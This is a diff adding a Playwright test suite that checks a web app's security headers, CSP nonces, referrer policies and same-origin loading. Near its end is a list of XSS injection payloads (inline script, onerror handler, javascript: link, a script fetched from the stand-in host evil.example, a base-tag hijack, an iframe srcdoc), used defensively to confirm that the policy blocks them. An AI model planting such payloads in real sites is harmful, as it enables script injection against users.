@@ -1,0 +1,168 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures'
+import { type Actor, actors, makeWorld } from './policy/cast'
+import { expected } from './policy/row'
+import { table } from './policy/table'
+import { server } from './server'
+import { foundIn, watch } from './untrusted'
+
+const policyOf = (headers: Record<string, string>) => headers['content-security-policy'] ?? ''
+
+test('every kind of answer says what a browser may do with it', async ({ request }) => {
+  const kinds = {
+    page: ['/', '/sign-in', '/no-such-page', '/sign-in/link', '/unsubscribe', '/dashboard'],
+    file: ['/robots.txt', '/sitemap.xml', '/icon.svg', '/opengraph-image', '/pay/data.json'],
+    call: ['/api/v1/me', '/api/v1/pay?country=DE&level=junior', '/api/v1/no-such-call', '/api/auth/csrf'],
+  }
+  for (const [kind, urls] of Object.entries(kinds)) {
+    for (const url of urls) {
+      const headers = (await request.get(url, { maxRedirects: 0 })).headers()
+      expect(headers, url).toMatchObject({
+        'x-content-type-options': 'nosniff',
+        'x-frame-options': 'DENY',
+        'cross-origin-opener-policy': 'same-origin',
+        'permissions-policy': expect.stringContaining('camera=()'),
+      })
+      // This instance is reached by plain http.
+      expect(headers, url).not.toHaveProperty('strict-transport-security')
+      expect(policyOf(headers), url).toContain("frame-ancestors 'none'")
+      expect(policyOf(headers), url).toMatch(/^default-src 'none'; (script-src 'nonce-|base-uri 'none')/)
+      expect(policyOf(headers).includes('script-src'), url).toBe(kind !== 'call')
+    }
+  }
+  const shown = (await request.get('/opengraph-image')).headers()
+  expect(shown['cross-origin-resource-policy']).toBe('cross-origin')
+  expect((await request.get('/')).headers()['cross-origin-resource-policy']).toBe('same-origin')
+})
+
+test('an address that holds a token is told to no other place', async ({ request }) => {
+  const policies = {
+    '/': 'strict-origin-when-cross-origin',
+    '/sign-in': 'strict-origin-when-cross-origin',
+    '/sign-in/link?token=x': 'no-referrer',
+    '/reset-password?token=x': 'no-referrer',
+    '/verify-email?token=x': 'no-referrer',
+    '/invitations/x': 'no-referrer',
+    '/unsubscribe?token=x': 'same-origin',
+    '/cohorts/join/x': 'same-origin',
+  }
+  for (const [url, policy] of Object.entries(policies)) {
+    const headers = (await request.get(url, { maxRedirects: 0 })).headers()
+    expect(headers['referrer-policy'], url).toBe(policy)
+  }
+})
+
+test('each answer has a nonce of its own, on every script of it that runs', async ({ request }) => {
+  const nonces = new Set<string>()
+  for (const url of ['/', '/', '/roadmaps/backend', '/no-such-page', '/faq']) {
+    const answer = await request.get(url)
+    const nonce = /'nonce-([^']+)'/.exec(policyOf(answer.headers()))?.[1] ?? ''
+    expect(Buffer.from(nonce, 'base64')).toHaveLength(16)
+    nonces.add(nonce)
+    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? []
+    const running = scripts.filter((script) => !script.includes('application/ld+json'))
+    expect(running.length).toBeGreaterThan(3)
+    for (const script of running) expect(script).toContain(`nonce="${nonce}"`)
+  }
+  expect(nonces.size).toBe(5)
+})
+
+test('no page breaks its policy or asks another place for anything, whoever opens it', async ({
+  newLearner,
+  pageOf,
+  newPage,
+}) => {
+  test.setTimeout(240_000)
+  const world = await makeWorld({ newLearner, pageOf, newPage })
+  const findings: string[] = []
+  const watches = new Map<Actor, Awaited<ReturnType<typeof watch>>>()
+  for (const actor of actors) watches.set(actor, await watch(world.pages[actor].context()))
+  let count = 0
+  for (const row of table.filter(({ entry }) => entry.startsWith('PAGE '))) {
+    for (const actor of actors.filter((it) => expected(row, it) === 'allowed')) {
+      const page = world.pages[actor]
+      await page.goto((await row.call(world, actor)).url)
+      findings.push(...(await foundIn(page)))
+      count++
+    }
+  }
+  for (const [actor, { findings: seen }] of watches) findings.push(...seen.map((what) => `${actor}: ${what}`))
+  expect(findings).toEqual([])
+  expect(count).toBeGreaterThan(150)
+})
+
+test('what opens, moves and loads later keeps to the policy too', async ({ pageOf, newLearner }) => {
+  const { page } = await newLearner('Ada')
+  const mentor = await pageOf('mentor')
+  const watches = [await watch(page.context()), await watch(mentor.context())]
+  await page.goto('/roadmaps/backend')
+  await page.getByLabel('Status of Git basics').selectOption('skipped')
+  await expect(page.getByRole('dialog')).toBeVisible()
+  await page.keyboard.press('Escape')
+  await page.getByRole('checkbox', { name: 'Done: Git basics' }).click()
+  await expect(page.getByRole('button', { name: 'Undo' })).toBeVisible()
+  await followWithin(page, '/roadmaps/backend/steps/http')
+  await page.goBack()
+  await followWithin(page, '/dashboard')
+  await mentor.goto('/mentor')
+  await followWithin(mentor, '/mentor/learners')
+  await mentor.mouse.wheel(0, 4000)
+  await followWithin(mentor, '/mentor/reviews')
+  expect(watches.flatMap(({ findings }) => findings)).toEqual([])
+})
+
+/** Follows a link as the app does, without loading the document again. */
+async function followWithin(page: Page, path: string): Promise<void> {
+  await page.evaluate(() => Object.assign(window, { isStill: true }))
+  // By script: on a roadmap, the link can stand in a fold.
+  await page
+    .locator(`a[href="${path}"]`)
+    .first()
+    .evaluate((link: HTMLElement) => link.click())
+  await expect(page).toHaveURL(`${server.url}${path}`)
+  await expect(page.locator('h1')).toBeVisible()
+  expect(await page.evaluate(() => 'isStill' in window), path).toBe(true)
+}
+
+const injected = [
+  '<script>window.pwned=(window.pwned??"")+"script "</script>',
+  '<img src="/nothing.png" onerror="window.pwned=(window.pwned??\'\')+\'handler \'">',
+  '<a id="injected" href="javascript:void(window.pwned=(window.pwned??\'\')+\'address \')">x</a>',
+  '<script src="https://evil.example/x.js"></script>',
+  "<script src=\"data:text/javascript,window.pwned=(window.pwned??'')+'data '\"></script>",
+  '<style>body { --evil: 1 }</style>',
+  '<base href="https://evil.example/">',
+  "<iframe srcdoc=\"<script>parent.pwned=(parent.pwned??'')+'frame '</script>\"></iframe>",
+].join('')
+
+for (const bypassCSP of [false, true]) {
+  test(`what is smuggled into a page ${bypassCSP ? 'runs without the policy' : 'does not run'}`, async ({
+    browser,
+  }) => {
+    const context = await browser.newContext({ bypassCSP })
+    const asked: string[] = []
+    await context.route('https://evil.example/**', (route) => {
+      asked.push(route.request().url())
+      return route.fulfill({ contentType: 'text/javascript', body: 'window.pwned=(window.pwned??"")+"outside "' })
+    })
+    const page = await context.newPage()
+    await page.route('**/faq', async (route) => {
+      const response = await route.fetch()
+      const [text, end] = [await response.text(), '</body>']
+      const at = text.lastIndexOf(end)
+      expect(at).toBeGreaterThan(0)
+      await route.fulfill({ response, body: `${text.slice(0, at)}${injected}${text.slice(at)}` })
+    })
+    await page.goto('/faq', { waitUntil: 'domcontentloaded' })
+    await page.locator('#injected').evaluate((link: HTMLElement) => link.click())
+    await page.waitForTimeout(300)
+    const ran = await page.evaluate(() => String((window as unknown as { pwned?: string }).pwned ?? ''))
+    const style = await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--evil'))
+    const ways = ['script', 'handler', 'address', 'data', 'outside', 'frame']
+    expect(ways.filter((way) => ran.includes(way))).toEqual(bypassCSP ? ways : [])
+    expect(style.trim()).toBe(bypassCSP ? '1' : '')
+    expect(asked.length > 0).toBe(bypassCSP)
+    if (!bypassCSP) expect(await page.evaluate(() => document.baseURI)).toBe(`${server.url}/faq`)
+    await context.close()
+  })
+}
